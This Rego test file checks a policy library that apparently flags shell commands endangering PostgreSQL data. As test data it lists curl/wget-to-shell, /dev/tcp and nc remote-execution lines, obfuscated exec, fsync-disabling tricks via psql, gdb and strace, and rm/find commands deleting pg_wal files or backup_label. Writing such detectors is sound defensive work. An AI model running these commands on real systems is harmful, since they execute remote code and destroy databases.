package walguard.lib.script_test

import data.walguard.lib.script

test_code_from_elsewhere if {
	every text in [
		"sh -c \"$(curl -fsSL https://a/b)\"",
		"bash <(curl -s https://a/b)",
		". <(wget -qO- https://a/b)",
		"python3 -c \"`curl https://a/b`\"",
		"curl https://a/b | sudo sh",
		"curl https://a/b | python3",
		"nc a 80 | sh",
		"kubectl get cm x -o jsonpath={.data.s} | sh",
		"exec 3<>/dev/tcp/a/80; sh <&3",
		"wget https://a/b -O /tmp/x; bash /tmp/x",
		"curl -s https://a/b > /tmp/x && chmod +x /tmp/x",
		"python3 -c 'exec(\"\".join(map(chr, [112])))'",
		"printf \"%s\" \"alter sys\" \"tem set fsync\" \"=off\" | psql -h a",
		"printf '%s%s' 'a' 'b' | postgres --single -D /d app",
	] {
		script.hides(text)
	}
}

test_nothing_hidden if {
	every text in [
		"",
		"curl -o /tmp/x https://a/b",
		"curl -s https://a/b | jq .",
		"curl -s https://a/b | grep ok && sh",
		"kubectl get pods | grep shop",
		"printf '%s\n' 'select 1' | psql",
		"printf \"ALTER USER %s PASSWORD '%s'\" \"$U\" \"$P\" | psql",
		"nc -z a 5432; sh /x/run.sh",
		"cat a | sh",
	] {
		not script.hides(text)
	}
}

test_languages_that_write if {
	every text in [
		"awk 'BEGIN{print \"a\" >> \"/var/lib/postgresql/data/p\" \"ql.auto.conf\"}'",
		"awk 'BEGIN{f=\"/d/post\"; print \"a\" >> (f \"gresql.x\")}'",
		"lua -e 'io.open(\"/d/postgresql\"..\".\"..\"auto.x\",\"a\")'",
		"python3 -c 'for f in glob.glob(\"/d/*.auto.*\"): open(f, \"a\")'",
		"gdb -p 1 -ex 'set var enableFsync=0'",
		"strace -f -e inject=fsync,fdatasync:retval=0 postgres",
	] {
		script.writes(text)
	}
	every text in [
		"df /var/lib/postgresql | awk '{print $1}' > /tmp/x", "awk '/x/ {print $2 > \"/tmp/x\"}' /tmp/a", "gdb -p 1 -batch -ex bt", "strace -p 1 -e fsync",
		"python3 -c 'open(\"/tmp/x\")'", "lua /x.lua",
	] {
		not script.writes(text)
	}
	script.dangerous("gdb -p 1 -ex 'set var enableFsync=0'")
	not script.dangerous("gdb -p 1 -ex 'set var enableFsync=1'")
}

test_cuts_by_a_pattern if {
	every text in ["rm -rf /d/pg_w*", "rm -rf $PGDATA/pg_*", "find /d -path '*pg_wal*' -name '0*' -delete", "find /d -wholename '*/pg_wal/*' -exec rm {} ;"] {
		script.cuts(text) == {"removes the files of pg_wal"}
	}
	script.cuts("rm -f $PGDATA/backup_l*") == {"removes backup_label"}
	every text in ["rm -rf /d/pg_stat_tmp/*", "rm -rf /d/pg_log*", "find /d -path '*pg_wal*' -prune -o -name x -delete", "find /d -path '*pg_wal*' -print", "rm -f /d/backup_list"] {
		script.cuts(text) == set()
	}
}
